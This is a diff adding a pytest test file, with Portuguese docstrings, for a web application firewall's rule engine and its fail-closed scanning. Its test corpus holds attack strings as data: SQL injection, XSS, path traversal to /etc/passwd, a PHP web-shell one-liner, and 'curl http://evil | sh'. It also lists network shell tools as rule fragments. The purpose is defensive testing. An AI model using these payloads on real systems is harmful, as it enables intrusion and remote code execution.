@@ -0,0 +1,160 @@
+import re
+import random
+import pytest
+
+from src.security.waf_engine import WAFEngine, WAFRule, required_literals, iter_strings
+
+ATTACK = "1 UNION SELECT password FROM users"
+# Score de bloqueio sozinho (duas regras de SQLi e uma de XSS)
+BLOCKED_ATTACK = "' OR '1'='1' UNION SELECT senha FROM users <script>alert(1)</script>"
+# ~15 KB de texto comum, com literais curtos das regras ("on", "nc", "or", "and")
+PROSE = ("Once the contract is signed and the function concludes, the sponsor "
+         "or the financial manager should review each clause on the document. ") * 110
+
+# Fragmentos que ativam (ou quase ativam) os literais das regras, combinados ao acaso
+FRAGMENTS = [
+    'UNION', 'union', 'UnIoN', 'SELECT', 'select', 'INSERT', 'into', 'DROP', 'Table',
+    'delete', 'FROM', 'or', ' OR ', "'", '"', '<script>', '<SCRIPT src=x>', '</script>',
+    'javascript:', 'JavaScript :', 'onload=', 'onerror =', 'on =', '<iframe', '<IFRAME src>',
+    '../', '..\\', '.. /', '%2e%2e%2f', '%2E%2E%5C', ';', '&', '|', '`', '$', 'curl', 'CURL',
+    'wget', 'nc', 'netcat', 'ncat', '<?php', '<?PHP', '<%', '%>', 'abc', 'selection', 'unions',
+    ' ', '\n', '_', '1', 'x', 'ç', 'ſ', 'ı', 'İ', 'K',
+]
+
+
+def _corpus(size=3000, seed=0):
+    rng = random.Random(seed)
+    payloads = [
+        ATTACK,
+        "nome'; DROP TABLE users; --",
+        '<script>alert(1)</script>',
+        '<img src=x onerror=alert(1)>',
+        '../../etc/passwd',
+        'curl http://evil | sh',
+        '<?php system($_GET["c"]); ?>',
+        'UNİON ſELECT senha',
+        'Contrato de locação entre as partes, vigente por 12 meses.',
+        '',
+    ]
+    for _ in range(size):
+        payloads.append(''.join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 12))))
+    return payloads
+
+
+def _assert_agrees(patterns):
+    """first_match do motor == primeiro padrão que casa num loop ingênuo de re.search"""
+    engine = WAFEngine(WAFRule('t', p.pattern, p.flags & ~re.UNICODE) for p in patterns)
+    for text in _corpus():
+        naive = next((p.pattern for p in patterns if p.search(text)), None)
+        rule = engine.first_match(text)
+        assert (rule.pattern if rule else None) == naive, repr(text)
+
+
+class TestRequiredLiterals:
+    """Testes para a extração de literais obrigatórios do pré-filtro"""
+
+    def test_sequence_and_ignorecase(self):
+        """Literais em sequência viram fatores; IGNORECASE os normaliza em minúsculas"""
+        assert required_literals(r'\bUNION\b.*\bSELECT\b', re.I) == (
+            frozenset(['union']), frozenset(['select']))
+
+    def test_alternation_is_one_of(self):
+        """Alternância vira um fator "um destes"; ramo sem literal anula o fator"""
+        assert required_literals(r'\b(curl|wget|nc)\b') == (frozenset(['curl', 'wget', 'nc']),)
+        assert required_literals(r'(abc|\d+)') == ()
+
+    def test_optional_groups_are_not_required(self):
+        """Grupo opcional e repetição com mínimo zero não entram nos fatores"""
+        assert required_literals(r'ab(cd)?ef') == (frozenset(['ab']), frozenset(['ef']))
+        assert required_literals(r'x(yz)*w') == (frozenset(['x']), frozenset(['w']))
+        assert required_literals(r'x(yz)+w') == (frozenset(['x']), frozenset(['yz']), frozenset(['w']))
+
+    def test_character_class(self):
+        """Classe só com literais vira fator; com faixas ou categorias, não"""
+        assert required_literals(r'[;&|`$]') == (frozenset(';&|`$'),)
+        assert required_literals(r'[a-z]+') == ()
+
+    def test_rule_without_literals_is_always_evaluated(self):
+        """Regra sem literal obrigatório não é descartada pelo pré-filtro"""
+        engine = WAFEngine([WAFRule('digits', r'\d{3}')])
+        assert engine.first_match('abc 123').threat_type == 'digits'
+        assert engine.first_match('abc 12') is None
+
+    def test_unicode_case_equivalents(self):
+        """Caracteres que o IGNORECASE casa com ASCII (İ, ı, ſ, K) não escapam do pré-filtro"""
+        engine = WAFEngine([WAFRule('sql_injection', r'\bUNION\b.*\bSELECT\b', re.I)])
+        assert engine.first_match('1 UNİON ſELECT senha') is not None
+        assert engine.first_match('1 UNıON SELECT senha') is not None
+
+
+class TestEngineAgreement:
+    """first_match concorda com a avaliação ingênua de todas as regras"""
+
+    def test_enterprise_waf_patterns(self):
+        module = pytest.importorskip('src.security.enterprise_security', exc_type=ImportError)
+        waf = module.EnterpriseWAF(None)
+        _assert_agrees([p for patterns in waf.threat_patterns.values() for p in patterns])
+
+    def test_advanced_security_patterns(self):
+        module = pytest.importorskip('src.security.advanced_security', exc_type=ImportError)
+        _assert_agrees(module.WebApplicationFirewall().suspicious_patterns)
+
+
+class TestScanFailsClosed:
+    """Cortes da varredura (orçamento, truncamento) nunca liberam um ataque das categorias de bloqueio"""
+
+    @pytest.fixture
+    def waf(self):
+        module = pytest.importorskip('src.security.enterprise_security', exc_type=ImportError)
+        return module.EnterpriseWAF(None)
+
+    def test_payload_after_padding_list(self, waf):
+        """Ataque depois de milhares de itens é bloqueado, mesmo com o orçamento estourado"""
+        result = waf.analyze_request({'path': '/api/x', 'json': {'itens': ['abc def'] * 3000 + [BLOCKED_ATTACK]}})
+        assert result['action'] == 'block'
+
+    def test_payload_after_long_filler(self, waf):
+        """Ataque além de `max_field_length` no mesmo campo é confirmado e bloqueado"""
+        result = waf.analyze_request({'path': '/api/x', 'json': {'texto': 'a' * 20000 + ' ' + BLOCKED_ATTACK}})
+        assert result['action'] == 'block'
+        assert result['threats_detected'][0]['type'] == 'sql_injection'
+
+    def test_payload_after_prose_padding(self, waf):
+        """~15 KB de texto antes do ataque esgotam o orçamento, mas não viram 'allow' nem 'challenge'"""
+        waf.engine.budget = 0  # orçamento estourado já no primeiro campo
+        result = waf.analyze_request({'path': '/api/x', 'json': {
+            'descricao': PROSE, 'comentario': BLOCKED_ATTACK}})
+        assert result['budget_exceeded']
+        assert result['action'] == 'block'
+        assert {t['type'] for t in result['threats_detected']} == {'sql_injection', 'xss'}
+
+    def test_padding_does_not_lower_the_action(self, waf):
+        """O mesmo ataque com e sem texto de enchimento antes tem a mesma ação"""
+        short = waf.analyze_request({'path': '/api/x', 'json': {'q': ATTACK}})
+        padded = waf.analyze_request({'path': '/api/x', 'json': {'descricao': PROSE, 'q': ATTACK}})
+        assert padded['action'] == short['action'] == 'monitor'
+        assert padded['risk_score'] == short['risk_score']
+
+    def test_benign_prose_is_allowed(self, waf):
+        """Texto comum com literais curtos das regras ("on", "nc") não é escalado"""
+        result = waf.analyze_request({'path': '/api/x', 'json': {'descricao': PROSE, 'notas': [PROSE] * 3}})
+        assert result['action'] == 'allow'
+        assert not result['unverified_threats']
+
+    def test_oversized_body_is_scanned(self, waf):
+        """Corpo textual grande é varrido por inteiro"""
+        result = waf.analyze_request({'path': '/api/x', 'content_type': 'application/json',
+                                      'content_length': 5 * 1024 * 1024,
+                                      'json': {'texto': PROSE * 100 + BLOCKED_ATTACK}})
+        assert result['action'] == 'block'
+
+    def test_clean_request_is_allowed(self, waf):
+        result = waf.analyze_request({'path': '/api/documents', 'args': {'page': '2'},
+                                      'json': {'titulo': 'Contrato de locação', 'itens': ['a'] * 3000}})
+        assert result['action'] == 'allow'
+
+    def test_iter_strings_keeps_overflow(self):
+        """Strings além de `max_items` saem juntas em um último campo"""
+        strings = list(iter_strings({'a': ['x'] * 10 + ['y']}, max_items=3))
+        assert len(strings) == 4
+        assert sorted('\n'.join(strings).split('\n')) == sorted(['a', 'y'] + ['x'] * 10)